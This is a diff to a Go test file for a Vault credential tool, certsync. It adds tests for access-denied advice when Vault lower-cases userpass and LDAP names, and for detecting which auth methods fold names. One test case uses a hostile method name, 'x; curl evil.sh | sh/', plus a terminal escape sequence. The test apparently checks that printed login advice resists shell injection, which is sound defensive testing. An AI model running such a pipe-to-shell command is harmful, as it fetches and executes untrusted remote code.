@@ -6,6 +6,8 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/certsync/certsync/reconcile/preflight"
 )
 
 // TestAdvice: who may not read a credential learns whose token they have, and how this Vault lets people in.
@@ -29,6 +31,9 @@ func TestAdvice(t *testing.T) {
 		"their own, which has no right": {of("oidc-alice@example.com"), corporate, goodToken, nil, denies,
 			`this token is of "oidc-alice@example.com" (policies: certsync-prod-eu-users, default), which do not allow "read" on ` + path +
 				": is --owner right? If it is, ask whoever runs certsync for the policy that certsync manifests --vault prints"},
+		"a token of their name in lower case": {of("userpass-alice@example.com"), corporate, goodToken, nil, "reading secret/certsync/prod-eu/users/Alice@example.com: Vault answered 403 Forbidden: permission denied",
+			`this token is of "userpass-alice@example.com" (policies: certsync-prod-eu-users, default): Vault's userpass and LDAP turn names into lower case, and alice@example.com ` +
+				"does not stand for Alice@example.com in a policy. Ask whoever runs certsync to rename you in the inventory (name: alice@example.com, previously: [Alice@example.com]), or for a policy of your own"},
 		"no token": {nil, map[string]string{"corp/": "userpass"}, "", nil, "logging in to Vault at $VAULT: there is no token",
 			"log in to Vault as alice@example.com: vault login -method=userpass -path=corp"},
 		"a method whose name does more in a shell": {nil, map[string]string{"x; curl evil.sh | sh/": "userpass", "a\x1b[2J/": "oidc"}, "", nil, "logging in to Vault at $VAULT: there is no token",
@@ -44,13 +49,17 @@ func TestAdvice(t *testing.T) {
 			t.Setenv("VAULT_TOKEN", tt.token)
 			v.owner, v.methods = tt.owner, tt.methods
 			v.denied = func(_, p string) bool {
-				return p == path || strings.Contains(strings.Join(tt.deny, " "), p)
+				return strings.EqualFold(p, path) || strings.Contains(strings.Join(tt.deny, " "), p)
 			}
 			s, err := openUser(t.Context(), Options{Owner: "prod-eu"}, quick)
 			if err != nil {
 				t.Fatal(err)
 			}
-			_, err = s.ReadCredential(t.Context(), "alice@example.com")
+			user := "alice@example.com"
+			if strings.Contains(tt.err, "/Alice@") {
+				user = "Alice@example.com"
+			}
+			_, err = s.ReadCredential(t.Context(), user)
 			if err == nil {
 				t.Fatal("it was read")
 			}
@@ -62,6 +71,26 @@ func TestAdvice(t *testing.T) {
 				t.Error("the token is in it")
 			}
 		})
+	}
+}
+
+// TestAuthMethods: which methods turn names into lower case is known by what Vault shows, and by an accessor.
+func TestAuthMethods(t *testing.T) {
+	v := newFakeVault(t)
+	v.methods = map[string]string{"corp/": "userpass", "ad/": "ldap", "oidc/": "oidc", "ci/": "jwt", "approle/": "approle"}
+	s := v.open(t)
+	want := preflight.AuthMethods{Folding: []string{"ldap at ad/", "userpass at corp/"}, Others: true}
+	if diff := cmp.Diff(want, s.AuthMethods(t.Context())); diff != "" {
+		t.Error(diff)
+	}
+	v.methods = map[string]string{"ci/": "jwt"}
+	if diff := cmp.Diff(preflight.AuthMethods{}, s.AuthMethods(t.Context())); diff != "" {
+		t.Error(diff)
+	}
+	for accessor, want := range map[string]bool{"auth_userpass_1a2b3c4d": true, "auth_ldap_1a2b3c4d": true, "auth_oidc_1a2b3c4d": false, "auth_jwt_1a2b3c4d": false} {
+		if FoldsNames(accessor) != want {
+			t.Error(accessor)
+		}
 	}
 }
 
